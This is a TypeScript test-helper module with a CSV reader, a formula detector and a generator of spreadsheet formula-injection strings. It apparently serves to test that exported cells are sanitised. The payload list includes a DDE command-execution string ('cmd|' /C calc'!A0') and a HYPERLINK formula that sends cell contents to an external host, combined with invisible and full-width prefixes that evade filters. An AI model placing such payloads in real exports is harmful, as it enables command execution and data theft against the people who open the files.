/** A CSV reader (RFC 4180) that shares no code with our writer. */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text.charAt(at + 1) === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (sign === '"' && cell === "") isQuoted = true;
    else if (sign === ",") {
      row.push(cell);
      cell = "";
    } else if (sign === "\r" && text.charAt(at + 1) === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      at += 1;
    } else cell += sign;
  }
  if (isQuoted || cell !== "" || row.length > 0) throw new Error("The table breaks off");
  return rows;
}

/** Whether a spreadsheet would read it as a formula: it ignores invisible characters and accepts full-width ones. */
export function isFormula(cell: string): boolean {
  for (const sign of cell.normalize("NFKC")) {
    if (!/^[\s\p{C}\p{Z}\p{M}]$/u.test(sign)) return "=+-@\u2212".includes(sign);
  }
  return false;
}

/** Formula injections: every prefix with every sign and body. */
export function formulas(): string[] {
  const openings = [
    "",
    " ",
    "   ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u200e",
    "\u2060",
    "\u00ad",
    "\v",
    "\f",
    "\u0000",
    "\u0001",
    "\u2028",
    " \t\n\u00a0 ",
  ];
  const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
  const bodies = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"click")',
    "SUM(1,2)",
    '"quoted"',
    "a\nb",
  ];
  return openings.flatMap((opening) =>
    signs.flatMap((sign) => bodies.map((body) => opening + sign + body)),
  );
}
